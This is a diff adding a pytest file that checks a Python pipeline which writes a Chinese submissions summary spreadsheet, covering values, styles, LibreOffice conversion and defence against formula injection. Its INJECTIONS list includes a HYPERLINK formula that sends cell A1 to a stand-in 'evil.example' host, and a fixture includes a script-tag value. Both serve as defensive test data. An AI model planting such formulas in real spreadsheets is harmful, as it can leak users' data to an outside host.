@@ -1,0 +1,218 @@
+"""汇总表.xlsx: read back with openpyxl (values and styles), raw XML, and LibreOffice."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+import subprocess
+import zipfile
+from datetime import UTC, datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from pipeline.model import FORM_LABELS, Problem, Status
+from pipeline.reports.summary import ALL_HEADERS, UNIT_HEADERS, build_summary_xlsx
+from pipeline.reports.views import AttachmentView, SubmissionView, UnitRow
+from pipeline.reports.xlsx_style import display_width, looks_like_formula, put, safe_value, status_fill
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    " =1+1",
+    "\t=2+2",
+    "#N/A",
+]
+
+
+def make_view(case_no: str, unit: str | None, status: Status, **fields: str) -> SubmissionView:
+    values = {label: f"{label}-{case_no}" for label in FORM_LABELS}
+    values.update(fields)
+    return SubmissionView(
+        case_no=case_no,
+        unit=unit,
+        sender=f"{case_no.lower()}@example.cn",
+        message_id=f"{case_no}@mail.example.cn",
+        arrival=datetime(2021, 8, 1, 1, 30, tzinfo=UTC),  # 09:30 in Beijing
+        status=status,
+        fields=values,
+        normalized={},
+        problems=[],
+        attachments=[AttachmentView("附件1推荐表.docx", "推荐表", "a" * 64, 20480, None)],
+        subject=f"推荐材料 {case_no}",
+    )
+
+
+@pytest.fixture()
+def workbook(tmp_path: Path):
+    accepted = make_view("TJ-001", "北京针灸学会", Status.ACCEPTED, 账号名称=INJECTIONS[0])
+    fixing = make_view(
+        "TJ-002", "上海市针灸学会", Status.NEEDS_FIX, 手机="+1", 邮编="-2", 联系人="@SUM(A1:A9)"
+    )
+    fixing.problems = [
+        Problem("手机", "bad_phone", "手机号码应为11位数字，请核对后重新发送。"),
+        Problem(None, "x", "缺少图文或视频材料。"),
+    ]
+    fixing.decisions = ["2021-08-01 10:00 张三：允许逾期提交（路上耽误）"]
+    fixing.fields["账号简介"] = "简介含控制字符\x07\x1b与制表\t结尾 =1+1"
+    late = make_view(
+        "TJ-003", "天津针灸学会", Status.LATE, 运营主体=" =1+1", 注册时间="\t=2+2", 粉丝数量="#N/A"
+    )
+    old = make_view("TJ-000", "北京针灸学会", Status.SUPERSEDED)
+    stray = make_view("TJ-004", None, Status.UNKNOWN_UNIT, 账号名称="<script>x</script>")
+    units = [
+        UnitRow("北京针灸学会", accepted, other_count=1),
+        UnitRow("上海市针灸学会", fixing),
+        UnitRow("天津针灸学会", late),
+        UnitRow("河北省针灸学会", None),
+    ]
+    path = build_summary_xlsx(units, [accepted, fixing, late, old, stray], tmp_path / "汇总表.xlsx")
+    return path, openpyxl.load_workbook(path)
+
+
+def test_sheets_rows_and_values(workbook):
+    path, wb = workbook
+    assert path.name == "汇总表.xlsx" and path.is_file()
+    assert wb.sheetnames == ["汇总", "全部来信"]
+    ws = wb["汇总"]
+    assert [c.value for c in ws[1]] == list(UNIT_HEADERS)
+    assert ws.max_row == 5  # header + 4 roster units
+    col = {h: i + 1 for i, h in enumerate(UNIT_HEADERS)}
+    assert ws.cell(2, col["状态"]).value == "已受理"
+    assert ws.cell(2, col["收到时间"]).value == "2021-08-01 09:30"
+    assert ws.cell(2, col["其他来信（封）"]).value == 1
+    assert ws.cell(3, col["问题"]).value == "手机号码应为11位数字，请核对后重新发送。\n缺少图文或视频材料。"
+    assert ws.cell(3, col["人工决定"]).value == "2021-08-01 10:00 张三：允许逾期提交（路上耽误）"
+    assert ws.cell(3, col["附件"]).value == "推荐表：附件1推荐表.docx（20 KB）"
+    assert ws.cell(3, col["账号简介"]).value == "简介含控制字符与制表\t结尾 =1+1"
+    assert ws.cell(4, col["受理编号"]).value == "TJ-003"
+    missing = [c.value for c in ws[5]]
+    assert missing[0] == "河北省针灸学会" and missing[1] == "未报送"
+    for label in FORM_LABELS:
+        assert ws.cell(1, col[label]).value == label
+
+    all_ws = wb["全部来信"]
+    assert [c.value for c in all_ws[1]] == list(ALL_HEADERS)
+    assert all_ws.max_row == 6
+    cases = [all_ws.cell(r, 1).value for r in range(2, 7)]
+    assert sorted(cases) == ["TJ-000", "TJ-001", "TJ-002", "TJ-003", "TJ-004"]
+    row = cases.index("TJ-004") + 2
+    acol = {h: i + 1 for i, h in enumerate(ALL_HEADERS)}
+    assert all_ws.cell(row, acol["单位"]).value == "（未识别单位）"
+    assert all_ws.cell(row, acol["账号名称"]).value == "<script>x</script>"
+    assert all_ws.cell(row, acol["Message-ID"]).value == "TJ-004@mail.example.cn"
+
+
+def test_styles(workbook):
+    _, wb = workbook
+    for ws in wb.worksheets:
+        assert all(c.font.bold for c in ws[1])
+        assert ws.freeze_panes == "A2"
+        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}{ws.max_row}"
+        assert ws.cell(2, 1).alignment.wrap_text
+    ws = wb["汇总"]
+    status_col = UNIT_HEADERS.index("状态") + 1
+    colors = [ws.cell(r, status_col).fill.fgColor.rgb[-6:] for r in range(2, 6)]
+    assert colors == [
+        status_fill(Status.ACCEPTED).fgColor.rgb[-6:],
+        status_fill(Status.NEEDS_FIX).fgColor.rgb[-6:],
+        status_fill(Status.LATE).fgColor.rgb[-6:],
+        status_fill(None).fgColor.rgb[-6:],
+    ]
+    assert colors[0] == "C6EFCE" and colors[1] == "FFEB9C" and colors[2] == "FFC7CE"
+    assert status_fill(Status.SUPERSEDED).fgColor.rgb[-6:] == "D9D9D9"
+    assert status_fill(Status.MANUAL_REVIEW).fgColor.rgb == status_fill(Status.NEEDS_FIX).fgColor.rgb
+    assert status_fill(Status.UNKNOWN_UNIT).fgColor.rgb == status_fill(Status.OVER_QUOTA).fgColor.rgb
+    # Widths count CJK as 2: the 问题 column must fit its longest line.
+    letter = openpyxl.utils.get_column_letter(UNIT_HEADERS.index("问题") + 1)
+    assert ws.column_dimensions[letter].width >= display_width("手机号码应为11位数字，请核对后重新发送。")
+    assert display_width("推荐表ab") == 8
+
+
+def test_formula_injection_stays_text(workbook):
+    path, wb = workbook
+    found = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.value in INJECTIONS:
+                    found.add(cell.value)
+                    assert cell.data_type == "s", (cell.coordinate, cell.value)
+                    if looks_like_formula(cell.value):
+                        assert cell.quotePrefix, cell.coordinate
+    assert found == set(INJECTIONS)
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = zf.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml
+                assert 't="inlineStr"' in xml and 't="e"' not in xml
+
+
+def test_looks_like_formula():
+    for text in ("=1", "+1", "-1", "@a", " =1", "\u3000+1", "\t1", "\r1"):
+        assert looks_like_formula(text), text
+    for text in ("", "1+1", "北京", "a=b", "a-b"):
+        assert not looks_like_formula(text), text
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
+def test_opens_in_libreoffice(workbook, tmp_path: Path):
+    path, _ = workbook
+    out = tmp_path / "csv"
+    profile = (tmp_path / "lo-profile").as_uri()
+    result = subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation={profile}",
+            "--headless",
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76,1",
+            "--outdir",
+            str(out),
+            str(path),
+        ],
+        capture_output=True,
+        timeout=180,
+    )
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader((out / "汇总表.csv").read_text(encoding="utf-8").splitlines(keepends=True)))
+    assert rows[0][:3] == ["单位", "状态", "受理编号"]
+    by_unit = {r[0]: r for r in rows[1:]}
+    assert set(by_unit) == {"北京针灸学会", "上海市针灸学会", "天津针灸学会", "河北省针灸学会"}
+    name_col = UNIT_HEADERS.index("账号名称")
+    # LibreOffice shows the text, not the result of evaluating it.
+    assert by_unit["北京针灸学会"][name_col] == INJECTIONS[0]
+    assert by_unit["上海市针灸学会"][UNIT_HEADERS.index("手机")] == "+1"
+    assert by_unit["河北省针灸学会"][1] == "未报送"
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=st.text(min_size=1, max_size=40))
+def test_any_text_round_trips_as_text(tmp_path: Path, text: str):
+    wb = openpyxl.Workbook()
+    put(wb.active, 1, 1, text)
+    path = tmp_path / "p.xlsx"
+    wb.save(path)
+    cell = openpyxl.load_workbook(path).active["A1"]
+    expected = safe_value(text)
+    if expected == "":
+        assert cell.value is None
+        return
+    assert cell.data_type == "s"
+    assert cell.value == expected
+
+
+@pytest.mark.parametrize("text", ["a\r\nb", "\ud800坏", "  ", "x" * 40000, "\x00\x01ok"])
+def test_awkward_text_is_written(tmp_path: Path, text: str):
+    wb = openpyxl.Workbook()
+    put(wb.active, 1, 1, text)
+    wb.save(tmp_path / "p.xlsx")
+    value = openpyxl.load_workbook(tmp_path / "p.xlsx").active["A1"].value
+    assert value == safe_value(text)
+    assert len(value) <= 32767 and "\x00" not in value
